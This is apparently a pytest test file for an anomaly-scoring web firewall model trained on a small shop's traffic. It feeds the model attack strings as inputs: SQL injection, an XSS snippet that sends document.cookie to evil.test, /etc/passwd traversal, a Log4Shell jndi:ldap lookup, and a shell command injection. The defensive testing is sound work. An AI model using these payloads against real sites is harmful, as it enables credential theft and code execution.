"""Requests held against the model of a small shop."""

from __future__ import annotations

from urllib.parse import quote

import numpy as np
import pytest
from cnaf.learner.fit import FitResult
from cnaf.models.exchange import Request
from cnaf.models.features import COLUMNS
from cnaf.models.fields import Field, Location
from cnaf.models.kernels import MEASURES
from cnaf.models.parsing import RequestParser
from cnaf.models.request_model import VALUE_CAP, Score, Scorer, is_learned, without_host
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.shop import request, shop_fit, shop_traffic

INJECTION = "1' UNION SELECT user, password FROM users-- -"
SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"


def newness(found: Score) -> float:
    """What structure adds to a score: the first three of its dense features."""
    n = len(found.indices)
    at = n * len(MEASURES) + n + COLUMNS.index("unseen-endpoint")
    return float(found.out[at : at + 3].sum())


@pytest.fixture(scope="module")
def fitted() -> FitResult:
    return shop_fit()


@pytest.fixture(scope="module")
def scorer(fitted: FitResult) -> Scorer:
    return Scorer(fitted.model)


@pytest.fixture(scope="module")
def trained(scorer: Scorer) -> np.ndarray:
    """The score of every request that the model learned from."""
    return np.array([score(scorer, exchange.request).score for exchange in shop_traffic()])


def score(scorer: Scorer, made: Request) -> Score:
    return scorer.score(RequestParser().parse(made))


def quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


class TestAttacks:
    @pytest.mark.parametrize(
        "target",
        [
            f"/products?page={quoted(INJECTION)}&sort=price",
            f"/products?page=1&sort={quoted(SCRIPT)}",
            f"/products/{quoted(INJECTION)}",
            f"/orders/{quoted('../../../../etc/passwd')}",
            f"/search?q={quoted(SCRIPT)}",
            f"/static/app.js?v={quoted('${jndi:ldap://x.test/a}')}",
            f"/products?page={quoted(';cat /etc/passwd|sh')}&sort=price",
        ],
    )
    def test_an_injection_scores_above_all_that_was_learned(
        self, scorer: Scorer, trained: np.ndarray, target: str
    ) -> None:
        assert score(scorer, request(target=target)).score > trained.max()

    @pytest.mark.parametrize(
        ("content_type", "path", "body"),
        [
            (b"application/json", "/api/cart", b'{"items":[{"sku":"%s","count":1}],"gift":true}'),
            (b"application/x-www-form-urlencoded", "/login", b"email=%s&password=0123456789"),
            (
                b"multipart/form-data; boundary=XyZ", "/profile",
                b'--XyZ\r\nContent-Disposition: form-data; name="born"\r\n\r\n%s\r\n--XyZ--\r\n',
            ),
        ],
    )  # fmt: skip
    def test_in_every_kind_of_body(
        self, scorer: Scorer, trained: np.ndarray, content_type: bytes, path: str, body: bytes
    ) -> None:
        made = request("POST", path, body % INJECTION.encode(), content_type)
        assert score(scorer, made).score > trained.max()

    @pytest.mark.parametrize("padding", [1, 10, 60])
    def test_benign_text_around_an_attack_does_not_hide_it(
        self, fitted: FitResult, scorer: Scorer, padding: int
    ) -> None:
        text = "small red shirt " * padding
        calm = score(scorer, request(target=f"/search?q={quoted(text)}"))
        padded = score(scorer, request(target=f"/search?q={quoted(text + SCRIPT + ' ' + text)}"))
        assert padded.score > calm.score + 3
        assert padded.score >= fitted.model.calibration.threshold(0.01)

    def test_encoding_twice_does_not_hide_it(self, scorer: Scorer, trained: np.ndarray) -> None:
        twice = quoted(quoted(INJECTION))
        assert score(scorer, request(target=f"/products?page={twice}")).score > trained.max()

    def test_the_field_at_fault_has_the_worst_value(self, scorer: Scorer) -> None:
        parsed = RequestParser().parse(
            request(target=f"/products?page={quoted(INJECTION)}&sort=price")
        )
        found = scorer.score(parsed)
        worst = parsed.fields[found.indices[int(np.argmax(found.values))]]
        assert worst.label == "query:page"


class TestBenign:
    def test_what_was_learned_scores_low(self, fitted: FitResult, trained: np.ndarray) -> None:
        calibration = fitted.model.calibration
        assert np.mean(trained >= calibration.threshold(0.05)) < 0.05
        # Learned requests fit better than the same ones did when they were held out.
        assert np.median(trained) <= np.median(fitted.held_out)

    def test_traffic_of_other_sessions_stays_within_the_rate(
        self, fitted: FitResult, scorer: Scorer
    ) -> None:
        scores = np.array([score(scorer, e.request).score for e in shop_traffic(30, seed=9)])
        assert np.mean(scores >= fitted.model.calibration.threshold(0.02)) < 0.04

    def test_an_unseen_endpoint_costs_what_newness_says(self, scorer: Scorer) -> None:
        for made in (request(target="/never-seen"), request("DELETE", "/products/7")):
            found = score(scorer, made)
            assert found.endpoint is None
            assert newness(found) > 1
            assert found.score >= newness(found)

    def test_a_known_endpoint_has_no_newness(self, scorer: Scorer) -> None:
        found = score(scorer, request(target="/products/7"))
        assert (found.endpoint is not None, newness(found)) == (True, 0.0)
        assert found.template == "/products/{int}"

    def test_an_unseen_field_is_named(self, scorer: Scorer) -> None:
        parsed = RequestParser().parse(request(target="/products?page=1&sort=price&debug=true"))
        found = scorer.score(parsed)
        assert [parsed.fields[i].label for i in found.unseen] == ["query:debug"]
        assert newness(found) > 0

    def test_a_known_field_at_another_endpoint_is_new_there(self, scorer: Scorer) -> None:
        here = score(scorer, request(target="/search?q=hat"))
        there = score(scorer, request(target="/products/7?q=hat"))
        assert (newness(here), there.unseen) == (0.0, [])
        assert newness(there) > 0


class TestContract:
    @settings(deadline=None, max_examples=60)
    @given(st.lists(st.integers(0, 400), min_size=1, max_size=8), st.integers(0, 400))
    def test_a_score_depends_on_its_request_alone(self, before: list[int], which: int) -> None:
        traffic = shop_traffic()
        parser, scorer = RequestParser(), Scorer(shop_fit().model)
        for index in before:
            scorer.score(parser.parse(traffic[index].request))
        found = scorer.score(parser.parse(traffic[which].request))
        fresh = score(Scorer(shop_fit().model), traffic[which].request)
        assert found.score == fresh.score
        assert found.out.tobytes() == fresh.out.tobytes()

    @settings(deadline=None, max_examples=100)
    @given(st.binary(max_size=200), st.binary(max_size=300), st.binary(max_size=30))
    def test_any_request_has_a_finite_score(
        self, target: bytes, body: bytes, content_type: bytes
    ) -> None:
        headers = ((b"content-type", content_type), (b"cookie", target))
        found = score(Scorer(shop_fit().model), Request("POST", target, headers, body, len(body)))
        assert np.isfinite(found.score)
        assert found.score >= 0
        assert 0 < found.forest <= 1
        assert np.isfinite(found.out).all()

    def test_an_empty_request_has_a_score(self, scorer: Scorer) -> None:
        found = score(scorer, Request("", b"", ()))
        assert found.surprises.shape == (1, len(MEASURES))
        assert np.isfinite(found.score)

    def test_long_values_are_walked_up_to_the_cap(self, scorer: Scorer) -> None:
        one = score(scorer, request(target="/search?q=" + "a" * VALUE_CAP))
        two = score(scorer, request(target="/search?q=" + "a" * (VALUE_CAP + 9_000)))
        assert one.values.tolist() == two.values.tolist()

    def test_scores_are_float32_so_that_ties_stay(self, scorer: Scorer) -> None:
        found = score(scorer, request(target="/search?q=hat"))
        assert float(np.float32(found.score)) == found.score

    @pytest.mark.parametrize(
        ("field", "learned"),
        [
            (Field(Location.HEADER, "user-agent", b""), False),
            (Field(Location.HEADER, "sec-fetch-mode", b""), False),
            (Field(Location.HEADER, "x-api-version", b""), True),
            (Field(Location.FILE, "avatar", b""), False),
            (Field(Location.COOKIE, "host", b""), True),
        ],
    )
    def test_what_describes_the_client_is_not_learned(self, field: Field, learned: bool) -> None:
        assert is_learned(field) is learned

    def test_a_model_holds_no_value_of_its_traffic(self, fitted: FitResult) -> None:
        model = fitted.model
        held = b"".join(
            array.tobytes()
            for array in (model.table.tags, model.table.bits, model.escapes, model.seen,
                          model.usual, model.scales, model.calibration.scores)
        ) + repr((model.profiles, model.endpoints, model.tree.templates())).encode()  # fmt: skip
        parser = RequestParser()
        for exchange in shop_traffic():
            for field in parser.parse(exchange.request).fields[1:]:
                if len(field.value) > 9:
                    assert field.value not in held


class TestBlockable:
    """What may block leaves out that an endpoint is new; what is in its values stays."""

    def blockable(self, scorer: Scorer, made: Request) -> tuple[float, float]:
        parsed = RequestParser().parse(made)
        found = scorer.score(parsed)
        return scorer.blockable(parsed, found), found.score

    def test_a_known_endpoint_keeps_its_score(self, scorer: Scorer) -> None:
        part, whole = self.blockable(scorer, request(target="/search?q=" + quote(INJECTION)))
        assert part == whole

    def test_a_forgotten_page_is_ordinary_and_an_attack_on_it_is_not(
        self, fitted: FitResult, scorer: Scorer
    ) -> None:
        threshold = fitted.model.blocking.threshold(0.02)
        page, whole = self.blockable(scorer, request(target="/about-us/our-story"))
        assert page < threshold
        assert page < whole
        attacked = request(target="/about-us/our-story?q=" + quote(INJECTION))
        assert self.blockable(scorer, attacked)[0] >= threshold


class TestOthers:
    """What a production site has and CI had not: another name, cookies of others, proxies."""

    @pytest.mark.parametrize("scheme", ["http", "https"])
    def test_the_name_of_the_site_is_neutral(self, scheme: str) -> None:
        texts = []
        for host in (b"127.0.0.1:9080", b"www.shop.example"):
            target = b"/search?q=" + scheme.encode() + b"://" + host + b"/a&w=" + host
            made = Request("GET", target, ((b"host", host),))
            parsed = RequestParser().parse(made)
            texts.append([without_host(field.value, parsed.host) for field in parsed.fields[1:3]])
        assert texts[0] == texts[1] == [b"//host/a", b"host"]

    def test_a_payload_in_the_host_header_is_no_name(self) -> None:
        made = Request("GET", b"/search?q=1'%20OR%201=1", ((b"host", b"1' OR 1=1"),))
        assert RequestParser().parse(made).host == b""

    @given(st.binary(max_size=80), st.binary(max_size=12))
    def test_a_neutral_value_never_grows(self, value: bytes, host: bytes) -> None:
        assert len(without_host(value + host + value, host)) <= len(value + host + value)

    def test_a_site_scores_alike_under_any_name(self, scorer: Scorer) -> None:
        found = []
        for host in ("127.0.0.1:8080", "a-much-longer-name.shop.example"):
            target = f"/search?q=http://{host}/products"
            made = Request("GET", target.encode(), ((b"host", host.encode()),))
            found.append(score(scorer, made))
        assert found[0].values.tolist() == found[1].values.tolist()

    def test_unknown_cookies_and_headers_do_not_count(self, scorer: Scorer) -> None:
        plain = request(target="/search?q=hat")
        headers = (*plain.headers, (b"x-edge-trace", b"<<?>>"), (b"cookie", b"_ga=GA1.2.3;z=%7B"))
        more = Request("GET", plain.target, headers)
        one, two = score(scorer, plain), score(scorer, more)
        assert one.values.tolist() == two.values.tolist()
        assert two.unseen == []
